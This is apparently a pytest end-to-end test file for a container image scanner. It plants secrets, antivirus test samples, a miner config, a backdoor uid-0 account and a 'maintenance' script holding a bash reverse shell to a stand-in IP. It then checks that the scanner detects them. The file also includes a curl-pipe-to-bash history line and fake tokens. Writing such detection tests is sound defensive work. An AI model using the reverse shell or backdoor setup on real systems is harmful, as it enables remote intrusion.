"""End to end through ``hullscan.scan.scan`` and the ``hullscan image`` CLI on images built with ImageBuilder:
the planted corpus (secrets next to decoys, EICAR and clamav-testfiles samples, a miner config, a reverse
shell, a weak-password shadow file with real crypt hashes, risky history), a key added in layer 1 and deleted
in layer 2, and a clean Debian base built from this machine's real files."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from hullscan.checks.selection import apply
from hullscan.model import Category, ScanReport
from hullscan.options import ScanOptions
from hullscan.scan import scan
from tests.checks.corpus import Corpus, build
from tests.checks.debian_base import build_layer_tar
from tests.checks.test_malware import EICAR, MINER_CONFIG
from tests.helpers.imagebuild import F, ImageBuilder

ALL = frozenset({"secret", "malware", "baseline", "history"})
CLAM = Path("/usr/share/clamav-testfiles")
REVERSE_SHELL = b"#!/bin/bash\n# maintenance\nbash -i >& /dev/tcp/198.51.100.4/4444 0>&1\n"


def openssl_passwd(word: str) -> str:
    return subprocess.run(["openssl", "passwd", "-6", word], capture_output=True, text=True, check=True).stdout.strip()


@pytest.fixture(scope="module")
def corpus() -> Corpus:
    return build()


@pytest.fixture(scope="module")
def risky(tmp_path_factory: pytest.TempPathFactory, corpus: Corpus) -> Path:
    """Layer 1: accounts with a weak password and a key; layer 2: deletes the key, adds the corpus and samples."""
    out = tmp_path_factory.mktemp("img") / "risky"
    leaked = corpus.files["/root/.ssh/id_ed25519"]
    b = ImageBuilder()
    b.add_layer({
        "etc/passwd": "root:x:0:0:root:/root:/bin/bash\nbackdoor:x:0:0::/root:/bin/sh\napp:x:1000:1000::/home/app:/bin/sh\n",
        "etc/shadow": f"root:*:19000:0:99999:7:::\nbackdoor:{openssl_passwd('letmein')}:19000:0:99999:7:::\n"
                      f"app:{openssl_passwd('Kq2#vX9!zTm4-wR7')}:19000:0:99999:7:::\n",
        "etc/ssh/sshd_config": "PermitRootLogin yes\nPasswordAuthentication no\n",
        "opt/deploy/id_rsa": leaked,
    }, created_by="/bin/sh -c #(nop) ADD file:base in / ")
    files: dict[str, bytes | str | F] = {p.lstrip("/"): d for p, d in corpus.files.items() if p != "/root/.ssh/id_ed25519"}
    files["opt/deploy/.wh.id_rsa"] = b""
    files["app/eicar.com"] = EICAR
    files["opt/miner/config.json"] = MINER_CONFIG
    files["usr/local/bin/maint.sh"] = F(REVERSE_SHELL, mode=0o755)
    files["usr/local/bin/rootme"] = F(b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 32, mode=0o4755)
    files["srv/shared"] = F(kind="dir", mode=0o777)
    if CLAM.is_dir():
        for name in ("clam.exe", "clam.zip", "clam-upx.exe", "clam.7z"):
            files[f"samples/{name}"] = (CLAM / name).read_bytes()
    b.add_layer(files, created_by="/bin/sh -c #(nop) COPY dir:app in / ")
    b.add_history("|1 NPM_TOKEN=npm_Zq8vX2mK9pLrZq8vX2mK9pLrZq8vX2mK9pLr /bin/sh -c curl -fsSL https://get.tool.sh | bash")
    b.add_history("/bin/sh -c apt-get update && apt-get -y upgrade")
    b.config_extra = {"Env": ["PATH=/usr/bin", "DB_PASSWORD=Zq8vX2mK9pLr"], "ExposedPorts": {"22/tcp": {}},
                      "Labels": {"org.opencontainers.image.base.name": "debian:latest"}}
    b.write_oci_layout(out)
    return out


@pytest.fixture(scope="module")
def risky_report(risky: Path, tmp_path_factory: pytest.TempPathFactory) -> ScanReport:
    opts = ScanOptions(scanners=ALL, cache_dir=tmp_path_factory.mktemp("cache"))
    return apply(scan(str(risky), opts), opts)


def test_every_planted_secret_found_and_no_decoy(risky_report: ScanReport, corpus: Corpus) -> None:
    sensitive = [f for f in risky_report.findings if f.category is Category.SENSITIVE and f.location.path.startswith("/")]
    found = {(f.location.path, f.location.line) for f in sensitive}
    planted = {(p, line) for p, line in corpus.planted if p != "/root/.ssh/id_ed25519"}
    assert planted <= found, sorted(planted - found)
    assert not [f for f in sensitive if f.location.path in corpus.decoys]
    assert {f.id for f in sensitive if f.location.path == "/app/gcp/credentials.json"} >= {"secret-gcp-service-account",
                                                                                           "sensitive-gcp-service-account"}


def test_deleted_key_reported_with_both_layers(risky_report: ScanReport) -> None:
    layers = [layer.diff_id for layer in risky_report.layers]
    key = [f for f in risky_report.findings if f.location.path == "/opt/deploy/id_rsa"]
    assert {f.id for f in key} == {"secret-private-key", "sensitive-ssh-private-key"}
    assert all(f.location.layer == layers[0] and f.location.removed_in == layers[1] for f in key)


def test_malware_found(risky_report: ScanReport) -> None:
    mal = {(f.location.path, f.id) for f in risky_report.findings if f.category is Category.MALICIOUS}
    assert ("/app/eicar.com", "malware-eicar-test-file") in mal
    assert ("/opt/miner/config.json", "malware-miner-config") in mal
    assert ("/usr/local/bin/maint.sh", "malware-reverse-shell-bash") in mal
    if CLAM.is_dir():
        assert {p for p, _ in mal if p.startswith("/samples/")} == {"/samples/clam.exe", "/samples/clam.zip",
                                                                   "/samples/clam-upx.exe", "/samples/clam.7z"}
    assert not {p for p, _ in mal} & {"/app/src/main.py", "/app/config.yaml"}


def test_baseline_found(risky_report: ScanReport) -> None:
    base = {(f.id, f.location.path) for f in risky_report.findings if f.category is Category.BASELINE}
    assert base == {
        ("baseline-root-user", "config.User"),
        ("baseline-no-healthcheck", "config.Healthcheck"),
        ("baseline-extra-uid0", "/etc/passwd"),
        ("baseline-weak-password", "/etc/shadow"),
        ("baseline-sshd-permit-root-login", "/etc/ssh/sshd_config"),
        ("baseline-setuid-unowned", "/usr/local/bin/rootme"),
        ("baseline-world-writable", "/srv/shared"),
        ("baseline-plaintext-credential", "/opt/app/application.properties"),
        ("baseline-shadow-readable", "/etc/shadow"),  # the risky image's shadow file is mode 0644
    }
    weak = [f for f in risky_report.findings if f.id == "baseline-weak-password"]
    assert [f.evidence for f in weak] == ["backdoor: password is a dictionary word (l******)"]


def test_history_found(risky_report: ScanReport) -> None:
    hist = {f.id for f in risky_report.findings if f.category is Category.HISTORY}
    assert hist == {"history-secret-in-arg", "history-curl-pipe-shell", "history-unpinned-upgrade", "history-secret-in-env",
                    "history-exposed-remote-shell-port", "history-latest-base-label"}


def test_config_secrets_and_no_leak(risky_report: ScanReport, corpus: Corpus) -> None:
    from hullscan.serde import to_data

    env = [f for f in risky_report.findings if f.location.path.startswith("config.Env") and f.category is Category.SENSITIVE]
    assert {f.id for f in env} == {"secret-password-assignment"}
    text = json.dumps(to_data(risky_report))
    for value in corpus.values + ["Zq8vX2mK9pLr", "npm_Zq8vX2mK9pLrZq8vX2mK9pLrZq8vX2mK9pLr"]:
        for line in value.strip().splitlines():
            if len(line) >= 12 and "-----" not in line:
                assert line not in text


def test_cli_formats_carry_all_categories(risky: Path, tmp_path: Path, corpus: Corpus) -> None:
    env = dict(os.environ, HULLSCAN_CACHE_DIR=str(tmp_path / "cache"))
    outputs = {}
    for fmt in ("json", "sarif", "table"):
        out = tmp_path / f"report.{fmt}"
        proc = subprocess.run([sys.executable, "-m", "hullscan.cli", "image", "--input", str(risky), "--scanners",
                               "secret,malware,baseline,history", "--format", fmt, "-o", str(out), "-q"],
                              capture_output=True, text=True, env=env, check=False)
        assert proc.returncode == 0, proc.stderr
        outputs[fmt] = out.read_text()
    data = json.loads(outputs["json"])
    assert {f["category"] for f in data["findings"]} == {"sensitive", "malicious", "baseline", "history"}
    sarif = json.loads(outputs["sarif"])
    cats = {r.get("properties", {}).get("category") for r in sarif["runs"][0]["results"]}
    assert cats >= {"sensitive", "malicious", "baseline", "history"}
    for word in ("Sensitive", "Malicious", "Baseline", "History"):
        assert word in outputs["table"]
    for value in corpus.values:
        for line in value.strip().splitlines():
            if len(line) >= 12 and "-----" not in line:
                assert all(line not in o for o in outputs.values())


def test_cli_skip_checks_and_whitelist(risky: Path, tmp_path: Path) -> None:
    cfg = tmp_path / "hullscan.yaml"
    cfg.write_text("whitelist:\n  - id: history\n    scope: all\n    reason: accepted build steps\n")
    env = dict(os.environ, HULLSCAN_CACHE_DIR=str(tmp_path / "cache"))
    proc = subprocess.run([sys.executable, "-m", "hullscan.cli", "image", "--input", str(risky), "--scanners", "all",
                           "--skip-checks", "malicious,baseline-no-healthcheck", "--config", str(cfg), "--format", "json", "-q"],
                          capture_output=True, text=True, env=env, check=False)
    assert proc.returncode == 0, proc.stderr
    data = json.loads(proc.stdout)
    cats = {f["category"] for f in data["findings"]}
    assert "malicious" not in cats and "history" not in cats and "baseline" in cats
    assert "baseline-no-healthcheck" not in {f["id"] for f in data["findings"]}
    assert any("accepted build steps" in json.dumps(s) for s in data["suppressed"])


@pytest.fixture(scope="module")
def debian_base(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    if not Path("/var/lib/dpkg/status").exists():
        pytest.skip("not a Debian machine")
    tar, _ = build_layer_tar()
    return tar


def _debian(tmp: Path, debian_base: bytes, config: dict[str, object]) -> Path:
    b = ImageBuilder()
    b.add_layer(debian_base, compression="none", created_by="/bin/sh -c #(nop) ADD file:4b1be1de1a1e5aa608c688cad2824587 in / ")
    b.add_history('/bin/sh -c #(nop)  CMD ["bash"]')
    b.config_extra = config
    b.write_oci_layout(tmp)
    return tmp


def test_clean_debian_base_has_no_file_findings(debian_base: bytes, tmp_path: Path) -> None:
    img = _debian(tmp_path / "img", debian_base, {"Cmd": ["bash"], "Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"]})
    opts = ScanOptions(scanners=ALL, use_cache=False)
    report = apply(scan(str(img), opts), opts)
    assert report.os is not None and report.os.id == "debian" and len(report.packages) > 30
    # like debian:bookworm itself, the image runs as root without a HEALTHCHECK: those two config checks fire
    assert sorted(f.id for f in report.findings) == ["baseline-no-healthcheck", "baseline-root-user"]
    assert not report.suppressed
    assert all(p.status == "ok" for p in report.plugins)


def test_clean_debian_with_user_and_healthcheck_has_zero_findings(debian_base: bytes, tmp_path: Path) -> None:
    img = _debian(tmp_path / "img", debian_base, {"Cmd": ["bash"], "User": "nobody",
                                                  "Healthcheck": {"Test": ["CMD", "true"]}})
    opts = ScanOptions(scanners=ALL, use_cache=False)
    report = apply(scan(str(img), opts), opts)
    assert report.findings == [] and report.suppressed == []


# --------------------------------------------------------------------------- merged /usr (Debian 12, Ubuntu)


@pytest.fixture(scope="module")
def debian_merged(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The clean base with Debian 12's merged-/usr layout: /bin, /sbin, /lib* are symlinks into /usr, files sit
    under /usr, and the dpkg lists (copied from this machine) still name /bin/mount."""
    if not Path("/var/lib/dpkg/status").exists():
        pytest.skip("not a Debian machine")
    tar, _ = build_layer_tar(merged_usr=True)
    return tar


def _members(tar: bytes) -> dict[str, tarfile.TarInfo]:
    with tarfile.open(fileobj=io.BytesIO(tar)) as t:
        return {m.name: m for m in t.getmembers()}


#: setuid/setgid binaries of the required Debian packages, which dpkg lists under /bin and /sbin
BASE_SETUID = ("/usr/bin/mount", "/usr/bin/su", "/usr/bin/umount", "/usr/sbin/unix_chkpwd")


def test_merged_usr_debian_base_has_no_unowned_setuid_file(debian_merged: bytes, tmp_path: Path) -> None:
    members = _members(debian_merged)
    # the layout is the real thing: links into /usr, setuid files under /usr, dpkg lists naming /bin and /sbin
    assert members["bin"].issym() and members["bin"].linkname == "usr/bin" and members["sbin"].linkname == "usr/sbin"
    assert not any(n.startswith(("bin/", "sbin/", "lib/")) for n in members)
    present = [p for p in BASE_SETUID if p.lstrip("/") in members]
    assert present, "this machine's base packages ship none of the setuid files (the test would prove nothing)"
    assert all(members[p.lstrip("/")].mode & 0o6000 for p in present)
    with tarfile.open(fileobj=io.BytesIO(debian_merged)) as t:
        lists = b"".join(t.extractfile(m).read() for m in t.getmembers()  # type: ignore[union-attr]
                         if m.name.startswith("var/lib/dpkg/info/") and m.name.endswith(".list"))
    assert b"\n/bin/mount\n" in b"\n" + lists or b"\n/bin/su\n" in b"\n" + lists

    img = _debian(tmp_path / "img", debian_merged, {"Cmd": ["bash"]})
    opts = ScanOptions(scanners=ALL, use_cache=False)
    report = apply(scan(str(img), opts), opts)
    assert report.os is not None and report.os.id == "debian" and len(report.packages) > 30
    assert sorted(f.id for f in report.findings) == ["baseline-no-healthcheck", "baseline-root-user"]
    # the package lists were joined through the image's symlinks: dpkg's /bin/mount is the image's /usr/bin/mount
    owned = {f for p in report.packages for f in p.files}
    assert set(present) <= owned
    assert not any(f.startswith(("/bin/", "/sbin/", "/lib/")) for f in owned)


def test_merged_usr_unowned_setuid_still_reported(debian_merged: bytes, tmp_path: Path) -> None:
    b = ImageBuilder()
    b.add_layer(debian_merged, compression="none", created_by="/bin/sh -c #(nop) ADD file:base in / ")
    b.add_layer({"usr/local/bin/rootme": F(b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 32, mode=0o4755),
                 "usr/bin/sneaky": F(b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 32, mode=0o4755)},
                created_by="/bin/sh -c #(nop) COPY dir:app in / ")
    b.config_extra = {"User": "nobody", "Healthcheck": {"Test": ["CMD", "true"]}}
    b.write_oci_layout(tmp_path / "img")
    opts = ScanOptions(scanners=ALL, use_cache=False)
    report = apply(scan(str(tmp_path / "img"), opts), opts)
    assert sorted((f.id, f.location.path) for f in report.findings) == [
        ("baseline-setuid-unowned", "/usr/bin/sneaky"), ("baseline-setuid-unowned", "/usr/local/bin/rootme")]


def test_merged_usr_package_owned_secret_is_suppressed(debian_merged: bytes, corpus: Corpus, tmp_path: Path) -> None:
    """The same join decides which secrets are in package files: a package listing /lib/demo/server.key owns
    the image's /usr/lib/demo/server.key."""
    with tarfile.open(fileobj=io.BytesIO(debian_merged)) as t:
        status = t.extractfile("var/lib/dpkg/status").read()  # type: ignore[union-attr]
    stanza = (b"\nPackage: demo-keys\nStatus: install ok installed\nPriority: optional\nSection: misc\n"
              b"Maintainer: Demo <demo@example.org>\nArchitecture: all\nVersion: 1.0-1\nDescription: demo\n")
    key = corpus.files["/root/.ssh/id_ed25519"]
    b = ImageBuilder()
    b.add_layer(debian_merged, compression="none", created_by="/bin/sh -c #(nop) ADD file:base in / ")
    b.add_layer({"var/lib/dpkg/status": status.rstrip(b"\n") + b"\n" + stanza,
                 "var/lib/dpkg/info/demo-keys.list": "/.\n/lib\n/lib/demo\n/lib/demo/server.key\n",
                 "usr/lib/demo/server.key": key, "opt/app/server.key": key},
                created_by="/bin/sh -c #(nop) RUN dpkg -i demo-keys.deb")
    b.config_extra = {"User": "nobody", "Healthcheck": {"Test": ["CMD", "true"]}}
    b.write_oci_layout(tmp_path / "img")
    opts = ScanOptions(scanners=ALL, use_cache=False)
    report = apply(scan(str(tmp_path / "img"), opts), opts)
    assert {f.location.path for f in report.findings} == {"/opt/app/server.key"}
    assert {(f.location.path, why) for f, why in report.suppressed} == {
        ("/usr/lib/demo/server.key", "file installed by package demo-keys (secret.include-package-files=false)")}
